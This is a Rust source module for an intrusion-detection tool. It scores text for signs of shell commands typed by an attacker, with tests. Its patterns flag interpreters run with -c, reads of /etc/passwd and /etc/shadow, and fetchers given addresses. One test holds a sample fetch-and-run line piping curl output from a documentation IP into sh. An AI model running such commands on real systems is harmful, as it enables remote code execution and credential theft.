//! Commands as an intruder types them: names of programs, and arguments that no prose has.

use super::{
    found::Found,
    names::{Class, bare, has_subcommand},
};
use crate::{Grade, evidence::Evidence, reader::first_line};

/// Commands of one payload that are looked at.
const MOST: usize = 8;
/// Bits of evidence that nothing behind them takes back.
const PLENTY: u32 = 40;
/// Arguments of one command that are looked at.
const MOST_ARGUMENTS: usize = 6;

/// Commands up to the end of the text, which more may follow where it `is_cut`.
pub(super) fn commands(bytes: &[u8], is_cut: bool) -> Option<Found<'_>> {
    let text = bytes.trim_ascii_start();
    if !may_begin_command(*text.first()?) {
        return None;
    }
    if let Some(grade) = Evidence::bits(of_script(text)).grade() {
        return Some(found(grade, text));
    }
    let mut bits = 0_u32;
    let mut rest = text.strip_prefix(b"(").unwrap_or(text);
    for number in 0..MOST {
        let (command, after) = split_command(rest);
        // What a bracket follows may be a function.
        let has_end = !matches!(rest.get(command.len()), None | Some(b'('));
        match of_command(command, has_end) {
            Some(of_command) => bits += of_command,
            None if command.trim_ascii().is_empty() => {}
            // Prose begins with a word that is no command.
            None if number == 0 && bits == 0 => return None,
            // A list of names has some that are commands.
            None => bits = bits.saturating_sub(4),
        }
        rest = after.trim_ascii_start();
        if rest.is_empty() || bits >= PLENTY {
            break;
        }
    }
    // An end that was not captured speaks for nothing.
    let bits = if is_cut { bits.min(30) } else { bits };
    Some(found(Evidence::bits(bits).grade()?, text))
}

fn found(grade: Grade, text: &[u8]) -> Found<'_> {
    Found {
        grade,
        reason: "commands of a shell, as an intruder types them",
        field: "command",
        text: first_line(text),
    }
}

/// Letters, a path, a redirection, a variable, a group, or a comment that names an interpreter.
const fn may_begin_command(first: u8) -> bool {
    matches!(first, b'a'..=b'z' | b'A'..=b'Z' | b'/' | b'.' | b'>' | b'$' | b'(' | b'[' | b'#')
}

/// Bits of evidence in a script's first line, or in an expression of PowerShell.
fn of_script(text: &[u8]) -> u32 {
    let line = first_line(text);
    let has = |part: &[u8]| crate::reader::contains(line, part);
    match line {
        [b'#', b'!', b'/', ..]
            if [&b"sh"[..], b"python", b"perl", b"env "].into_iter().any(has) =>
        {
            32
        }
        [b'[', b'A'..=b'Z', ..] if has(b"]::") => 22,
        [b'$', b'a'..=b'z' | b'A'..=b'Z', ..]
            if line.starts_with(b"$env:") || line.starts_with(b"$PSVersion") || has(b" = New-") =>
        {
            22
        }
        _ => 0,
    }
}

/// Splits text behind a command, at what separates it from the next one.
fn split_command(text: &[u8]) -> (&[u8], &[u8]) {
    let mut quote = None;
    for (at, byte) in text.iter().enumerate() {
        match (quote, byte) {
            (Some(open), byte) if *byte == open => quote = None,
            (Some(_), _) => {}
            (None, b'\'' | b'"') => quote = Some(*byte),
            // `2>&1` and `>&` redirect.
            (None, b'&') if is_redirection(text, at) => {}
            (None, b';' | b'|' | b'&' | b'\n' | b'\r' | b'(' | b')' | b'`') => {
                return (&text[..at], separators_skipped(&text[at..]));
            }
            _ => {}
        }
    }
    (text, &[])
}

/// What follows separators; one of them where nothing does, so that a command has an end.
fn separators_skipped(text: &[u8]) -> &[u8] {
    let is_separator = |byte: &u8| b";|&\n\r()` ".contains(byte);
    let end = text.iter().position(|byte| !is_separator(byte)).unwrap_or(text.len() - 1);
    &text[end..]
}

fn is_redirection(text: &[u8], at: usize) -> bool {
    at > 0 && matches!(text[at - 1], b'>' | b'<') || matches!(text.get(at + 1), Some(b'>'))
}

/// Bits of evidence in one command; `None` if it is none. Behind it is an end, or the payload's.
fn of_command(command: &[u8], has_end: bool) -> Option<u32> {
    /// Words in front of a command, which say how it is run.
    const PREFIXES: [&[u8]; 13] = [
        b"if", b"then", b"do", b"while", b"else", b"!", b"{", b"sudo", b"nohup", b"exec",
        b"busybox", b"time", b"eval",
    ];
    let mut words =
        command.split(|byte| matches!(byte, b' ' | b'\t')).filter(|word| !word.is_empty());
    let mut bits = 0;
    let name: &[u8] = loop {
        let word = words.next();
        match word {
            // An assignment, a redirection: neither is a command, and prose has none.
            Some([b'>' | b'<', ..]) => bits += 6,
            Some(word) if is_assignment(word) => {
                bits += if word[0].is_ascii_uppercase() { 4 } else { 0 };
            }
            Some(b"sudo") if words.clone().next().is_none_or(|next| next.starts_with(b"-")) => {
                break b"sudo";
            }
            Some(word) if PREFIXES.contains(&word) => {
                bits += if matches!(word, b"sudo" | b"nohup" | b"busybox") { 6 } else { 1 };
            }
            Some(word) => break word,
            None => return (bits > 0 && has_end).then_some(bits),
        }
    };
    if name == b"[" && command.trim_ascii_end().ends_with(b"]") {
        return Some(bits + 10);
    }
    // A program in the working folder.
    if matches!(name, [b'.', b'/', b'a'..=b'z' | b'A'..=b'Z' | b'.' | b'_', ..]) {
        return Some(bits + 12);
    }
    if name == b"for" && words.clone().nth(1) == Some(b"in") {
        return Some(bits + 14);
    }
    let class = Class::of(name)?;
    let of_path = if name.starts_with(b"/") { 4 } else { 0 };
    let program = bare(name);
    let first = words.clone().next();
    let count = words.clone().take(MOST_ARGUMENTS).filter(|word| is_argument(word)).count() as u32;
    let of_arguments = match (class, first) {
        (Class::Program | Class::Fetcher, None) if !has_end => return None,
        // A word of two letters may be anything.
        (Class::Program | Class::Fetcher, None) => {
            if name.len() >= 4 {
                20
            } else {
                14
            }
        }
        (Class::Word, None) => {
            if is_alone(program) && has_end {
                14
            } else {
                0
            }
        }
        (Class::Fetcher, Some(_)) if words.clone().any(is_address) => 31,
        (_, Some(first)) if is_argument(first) => 20 + (count - 1) * 4,
        (_, Some(first)) if has_subcommand(program, first) => 20 + count * 4,
        // Several programs, as `which` is asked for.
        (_, Some(first)) if Class::of(first) == Some(Class::Program) => 14 + count * 4,
        (_, Some(_)) if program == b"echo" && words.clone().count() == 1 && has_end => 14,
        (Class::Program | Class::Fetcher, Some(_)) => (count * 4).min(8) + 4,
        (Class::Word, Some(first)) if program == b"export" && is_variable(first) => 20,
        // What it says goes into a file.
        (Class::Word, Some(_)) if words.clone().any(|word| matches!(word, [b'>', ..])) => 20,
        (Class::Word, Some(_)) => return None,
    };
    let of_purpose = if has_purpose(program, words) { 12 } else { 0 };
    Some(bits + of_path + of_arguments + of_purpose)
}

/// Whether a command hands a program to an interpreter, or reads the accounts of a host.
fn has_purpose<'a>(name: &[u8], mut words: impl Iterator<Item = &'a [u8]>) -> bool {
    const INTERPRETERS: [&[u8]; 9] =
        [b"perl", b"python", b"python2", b"python3", b"php", b"ruby", b"lua", b"sh", b"bash"];
    let is_interpreter = INTERPRETERS.contains(&name);
    words.any(|word| match word {
        b"-c" | b"-e" | b"-r" => is_interpreter,
        b"/etc/passwd" | b"/etc/shadow" => true,
        _ => false,
    })
}

/// Words that say something alone, and are rarely anything else.
const fn is_alone(name: &[u8]) -> bool {
    matches!(name, b"hostname" | b"uptime" | b"env" | b"w" | b"dir")
}

/// The name of a variable of the environment.
fn is_variable(word: &[u8]) -> bool {
    word.len() >= 2 && word.iter().all(|byte| byte.is_ascii_uppercase() || *byte == b'_')
}

/// `NAME=value` in front of a command.
fn is_assignment(word: &[u8]) -> bool {
    let Some(equals) = word.iter().position(|byte| *byte == b'=') else { return false };
    equals > 0 && word[..equals].iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_')
}

/// Whether a word is an option, a path, a variable, a redirection, an address or a number: what
/// prose does not have behind the name of a program.
fn is_argument(word: &[u8]) -> bool {
    match word {
        [b'-', letter, ..] => letter.is_ascii_alphanumeric() || *letter == b'-',
        [b'/' | b'~' | b'$' | b'"' | b'\'' | b'>' | b'<' | b'*' | b'%', _, ..] | b"*" => true,
        b"-" | b"/" | b"~" => true,
        [b'.', b'.' | b'/', ..] | [b'\\', b'\\', ..] | [b'2', b'>', ..] => true,
        [drive, b':', b'\\', ..] => drive.is_ascii_alphabetic(),
        [b'H', b'K', b'L' | b'C', b'M' | b'U' | b'R', b'\\', ..] => true,
        _ if is_program_file(word) => true,
        _ => is_address(word) || is_assignment(word) || has_inner_colon(word),
    }
}

/// A file that is run, by its extension.
fn is_program_file(word: &[u8]) -> bool {
    let word = word.strip_suffix(b",").unwrap_or(word);
    let Some((_, extension)) = word.split_last_chunk::<4>() else { return false };
    [b".exe", b".bat", b".cmd", b".ps1", b".vbs", b".elf", b".dll"]
        .into_iter()
        .any(|known| extension.eq_ignore_ascii_case(known))
}

/// `tcp:host:port`, `user:group`; prose has a blank behind a colon.
fn has_inner_colon(word: &[u8]) -> bool {
    word.windows(3).any(|three| {
        matches!(three, [before, b':', after]
            if before.is_ascii_alphanumeric() && after.is_ascii_alphanumeric())
    })
}

/// A URL, or an address of IPv4, perhaps with a port.
fn is_address(word: &[u8]) -> bool {
    crate::reader::contains(word, b"://")
        || (word.iter().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b':'))
            && word.iter().filter(|byte| **byte == b'.').count() == 3)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn graded(text: &str) -> Option<Grade> {
        commands(text.as_bytes(), false).map(|found| found.grade)
    }

    #[test]
    fn a_program_takes_an_end_or_an_argument() {
        assert_eq!(graded("whoami\n"), Some(Grade::Consistent));
        assert_eq!(graded("whoami"), None, "a word");
        assert_eq!(graded("id\n"), Some(Grade::Suspect));
        assert_eq!(graded("uname -a"), Some(Grade::Consistent));
        assert_eq!(graded("id; uname -a\n"), Some(Grade::Confirmed));
        assert_eq!(graded("curl -s http://192.0.2.9/x | sh\n"), Some(Grade::Confirmed));
    }

    #[test]
    fn a_path_or_an_extension_hides_no_argument() {
        for [short, long] in [
            ["ip a\n", "/sbin/ip a\n"],
            ["net user\n", "net.exe user\n"],
            ["python3 -c 'import os'\n", "/usr/bin/python3 -c 'import os'\n"],
        ] {
            assert!(graded(short).is_some() && graded(long) >= graded(short), "{long}");
        }
    }

    #[test]
    fn prose_is_no_command() {
        for prose in [
            "You can use curl or wget to fetch https://example.com/ if you like.\r\n",
            "cat and dog\r\n",
            "curl is a program\r\n",
            "find me at the station\r\n",
            "echo park is in Los Angeles\r\n",
            "name=wget version=1.21\n",
        ] {
            assert_eq!(graded(prose), None, "{prose}");
        }
    }

    #[test]
    fn quotes_and_redirections_do_not_end_a_command() {
        let (command, rest) = split_command(b"sh -c 'a; b' 2>&1; id\n");
        assert_eq!((command, rest), (&b"sh -c 'a; b' 2>&1"[..], &b"id\n"[..]));
        assert_eq!(split_command(b"id\n"), (&b"id"[..], &b"\n"[..]));
        assert_eq!(split_command(b"id"), (&b"id"[..], &b""[..]));
    }
}
